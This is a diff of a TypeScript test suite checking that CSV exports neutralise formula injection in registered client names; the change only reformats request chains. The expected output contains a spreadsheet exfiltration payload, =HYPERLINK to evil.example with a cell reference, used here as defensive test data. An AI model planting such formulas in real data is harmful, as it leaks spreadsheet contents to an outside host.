@@ -31,11 +31,20 @@ describe('CSV exports never run formulas (OWASP CSV Injection)', () => {
     const gh = usePlatform();
 
     it('When clients register with a formula in their name, then its cell in the export starts with an apostrophe and a name with a semicolon stays one quoted cell', async () => {
-      const reg = await request(gh.url).post('/reg').set('Authorization', `Bearer ${gh.config.ADMIN_TOKEN}`)
-        .send({ client_name: EVIL_NAME, redirect_uris: ['https://evil.example/cb'], scope: 'profile' }).expect(201);
-      await request(gh.url).post('/reg').set('Authorization', `Bearer ${gh.config.ADMIN_TOKEN}`)
-        .send({ client_name: 'Tunewave;=1+1', redirect_uris: ['https://evil.example/cb'], scope: 'profile' }).expect(201);
-      const csv = await request(gh.url).get('/monitor/exposure.csv').set('Authorization', `Bearer ${gh.config.ADMIN_TOKEN}`).expect(200);
+      const reg = await request(gh.url)
+        .post('/reg')
+        .set('Authorization', `Bearer ${gh.config.ADMIN_TOKEN}`)
+        .send({ client_name: EVIL_NAME, redirect_uris: ['https://evil.example/cb'], scope: 'profile' })
+        .expect(201);
+      await request(gh.url)
+        .post('/reg')
+        .set('Authorization', `Bearer ${gh.config.ADMIN_TOKEN}`)
+        .send({ client_name: 'Tunewave;=1+1', redirect_uris: ['https://evil.example/cb'], scope: 'profile' })
+        .expect(201);
+      const csv = await request(gh.url)
+        .get('/monitor/exposure.csv')
+        .set('Authorization', `Bearer ${gh.config.ADMIN_TOKEN}`)
+        .expect(200);
       const line = csv.text.split('\n').find((l) => l.startsWith(`"${reg.body.client_id as string}"`));
       expect(line).toBeDefined();
       expect(line!.split(',')[1]).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&B3`);
